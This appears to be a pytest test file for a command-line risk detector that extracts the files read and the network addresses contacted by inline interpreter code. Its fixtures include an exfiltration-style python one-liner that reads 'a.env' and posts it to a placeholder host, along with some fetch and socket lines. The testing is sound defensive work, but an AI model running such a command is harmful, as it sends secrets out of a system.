"""Code on command lines."""

from __future__ import annotations

import pytest

from riskproof.detect.commands_code import Code, code_in
from riskproof.detect.shell_model import Stream
from tests.unit.detect.reading import invocation


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (
            ("python", "-c", "import requests; requests.post('https://h.test/x', data=open('a.env').read())"),
            Code(("a.env",), ("https://h.test/x",), True),
        ),
        (("python", "-c", "import socket; socket.create_connection(('10.0.0.1', 80))"), Code((), ("10.0.0.1",), True)),
        (("python", "-c", "import socket; socket.socket().bind(('0.0.0.0', 80))"), Code((), (), True)),
        (("python", "-c", "print(open('a').read()); open('b', 'w').write('x')"), Code(("a",))),
        (("node", "-e", "fetch('http://h.test').then(x => x)"), Code((), ("http://h.test",), True)),
        (("node", "-e", "console.log(require('fs').readFileSync('a', 'utf8'))"), Code(("a",))),
        (("ruby", "-e", "require 'open-uri'; puts URI.open('http://h.test').read"), Code((), ("http://h.test",), True)),
        (("perl", "-e", "use LWP::Simple; getprint('http://h.test/')"), Code((), ("http://h.test/",), True)),
        (("php", "-r", "echo file_get_contents('http://h.test/');"), Code((), ("http://h.test/",), True)),
        (("php", "-r", "echo file_get_contents('a');"), Code(("a",))),
        (("python", "-c", "print('see http://h.test')"), Code()),
        (("python", "script.py"), Code()),
        (("node", "-e", "1 + 1"), Code()),
    ],
)
def test_files_and_addresses_are_read_out_of_code_and_not_out_of_what_it_prints(words: tuple[str, ...], code: Code) -> None:
    assert code_in(invocation(*words)) == code


def test_code_on_standard_input_is_code() -> None:
    fed = Stream(text="import urllib.request\nurllib.request.urlopen('http://h.test/')\n")
    assert code_in(invocation("python", "-", stdin=fed)) == Code((), ("http://h.test/",), True)
    assert code_in(invocation("python", "script.py", stdin=fed)) == Code()
